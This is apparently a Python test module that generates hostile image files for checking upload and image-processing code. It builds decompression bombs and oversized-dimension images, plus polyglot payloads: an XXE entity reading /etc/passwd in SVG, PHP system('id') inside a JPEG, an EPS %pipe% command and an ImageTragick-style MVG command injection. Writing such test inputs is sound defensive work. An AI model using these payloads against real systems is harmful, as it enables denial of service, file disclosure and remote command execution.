"""Small files that claim, or become, large ones; and files of two formats at once."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from functools import cache

from PIL import Image

from chaos.attacks.images import (
    BOMB_BYTES,
    MEBIBYTE,
    chunk,
    gif_start,
    gif_with,
    jpeg_of,
    jpeg_scans,
    jpeg_with,
    lossless_webp,
    png,
    png_with,
    sound,
    webp,
)

_FRAME = b"," + bytes(4) + struct.pack("<HH", 48, 48)  # how it begins in a sound GIF


def _gif_frames(number: int) -> bytes:
    """Frames of one colour, of less than a hundred bytes each."""
    buffer = io.BytesIO()
    Image.new("P", (48, 48)).save(buffer, "GIF")
    plain = buffer.getvalue()
    return sound("GIF")[: gif_start()] + plain[plain.index(_FRAME) : -1] * number + b";"


def _exif(size: int) -> bytes:
    """An EXIF directory of 5,000 entries, each of which claims the same ``size`` bytes."""
    entries = b"".join(struct.pack(">HHII", 0x8000 + index, 7, size, 0) for index in range(5000))
    return b"MM\0\x2a\0\0\0\x08" + struct.pack(">H", 5000) + entries + bytes(size + 4)


@cache
def _deflated() -> bytes:
    return zlib.compress(bytes(BOMB_BYTES), 1)


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "png-13000-square-in-one-bit": (
        "PNG",
        lambda: png(13_000, 13_000, 1, zlib.compress(bytes(13_000 * 1626), 1)),
    ),
    "png-claims-2-billion-square": ("PNG", lambda: png(2**31 - 1, 2**31 - 1, 8, zlib.compress(b"\0"))),
    "png-pixels-inflate-to-100-megabytes": ("PNG", lambda: png(16, 16, 8, _deflated())),
    "png-ztxt-of-100-megabytes": ("PNG", lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + _deflated()))),
    "png-itxt-of-100-megabytes": ("PNG", lambda: png_with(chunk(b"iTXt", b"Comment\0\1\0\0\0" + _deflated()))),
    "png-profile-of-100-megabytes": ("PNG", lambda: png_with(chunk(b"iCCP", b"a\0\0" + _deflated()))),
    "png-900-profiles-of-a-megabyte": (
        "PNG",
        lambda: png_with(chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(MEBIBYTE))) * 900),
    ),
    "png-60000-texts": ("PNG", lambda: png_with(chunk(b"tEXt", b"a\0b") * 60_000)),
    "png-exif-entries-share-bytes": ("PNG", lambda: png_with(chunk(b"eXIf", _exif(300_000)))),
    "gif-5000-frames": ("GIF", lambda: _gif_frames(5000)),
    "gif-claims-65535-square": ("GIF", lambda: sound("GIF")[:6] + b"\xff" * 4 + sound("GIF")[10:]),
    "gif-frame-larger-than-its-screen": (
        "GIF",
        lambda: sound("GIF").replace(_FRAME, b"," + bytes(4) + b"\xff" * 4),
    ),
    "gif-comment-in-pieces-of-a-byte": ("GIF", lambda: gif_with(b"!\xfe" + b"\1x" * 500_000 + b"\0")),
    "gif-200000-comments": ("GIF", lambda: gif_with(b"!\xfe\1x\0" * 200_000)),
    "webp-canvas-of-16384-square": ("WEBP", lambda: webp(16_384, 16_384)),
    "webp-canvas-of-65535-square": ("WEBP", lambda: webp(65_535, 65_535)),
    "webp-lossless-7071-square-in-one-colour": ("WEBP", lambda: lossless_webp(7071)),
    "jpeg-claims-65535-square": ("JPEG", lambda: jpeg_of(65_535, 65_535, sound("JPEG"))),
    "jpeg-claims-7000-square": ("JPEG", lambda: jpeg_of(7000, 7000, sound("JPEG"))),
    "jpeg-progressive-500-scans": ("JPEG", lambda: jpeg_scans(500, 48, progressive=True)),
    "jpeg-progressive-80-more-scans-of-5000-square": ("JPEG", lambda: jpeg_scans(80, 5000, progressive=True)),
    "jpeg-progressive-22-more-scans-of-5000-square": ("JPEG", lambda: jpeg_scans(22, 5000, progressive=True)),
    "jpeg-sequential-10000-scans-of-7000-square": ("JPEG", lambda: jpeg_scans(10_000, 7000, progressive=False)),
    "jpeg-200000-comments": ("JPEG", lambda: jpeg_with(b"\xff\xfe\0\2" * 200_000)),
    "jpeg-exif-in-pieces-of-a-byte": ("JPEG", lambda: jpeg_with(b"\xff\xe1\0\x09Exif\0\0x" * 100_000)),
    "jpeg-exif-entries-share-bytes": (
        "JPEG",
        lambda: jpeg_with(b"\xff\xe1" + struct.pack(">H", 65_018) + b"Exif\0\0" + _exif(4996)),
    ),
}

POLYGLOTS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "gif-and-script": ("image/gif", lambda: b"GIF89a=1/*" + sound("GIF")[10:] + b"*/;alert(1)//"),
    "jpeg-and-zip": ("image/jpeg", lambda: sound("JPEG") + b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18)),
    "png-and-html": (
        "image/png",
        lambda: png_with(chunk(b"tEXt", b"Comment\0<!-- --><script>alert(1)</script>")),
    ),
    "pdf-and-jpeg": (
        "image/jpeg",
        lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nstream\n" + sound("JPEG") + b"\nendstream\n%%EOF",
    ),
    "jpeg-with-php": ("image/jpeg", lambda: jpeg_with(b"\xff\xfe\0\x1a<?php system('id'); ?>  ")),
    "svg": (
        "image/svg+xml",
        lambda: (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text><script>alert(1)</script></svg>'
        ),
    ),
    "eps": (
        "image/jpeg",
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file\nshowpage\n%%EOF\n",
    ),
    "eps-with-a-dos-header": (
        "image/png",
        lambda: b"\xc5\xd0\xd3\xc6" + struct.pack("<II", 30, 40) + bytes(18) + b"%!PS",
    ),
    "heic": ("image/heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64)),
    "mvg": (
        "image/png",
        lambda: b"push graphic-context\nfill 'url(https://127.0.0.1/x.jpg\"|id \"x)'\npop graphic-context\n",
    ),
    "tiff": ("image/tiff", lambda: b"II*\0\x08\0\0\0\0\0\0\0\0\0"),
    "bmp": ("image/bmp", lambda: b"BM" + struct.pack("<IIIIiiHHIIiiII", 66, 0, 54, 40, 2, 2, 1, 24, 0, 12, 0, 0, 0, 0)),
    "webp-head-on-a-wave": ("image/webp", lambda: b"RIFF" + struct.pack("<I", 36) + b"WAVEfmt " + bytes(28)),
}
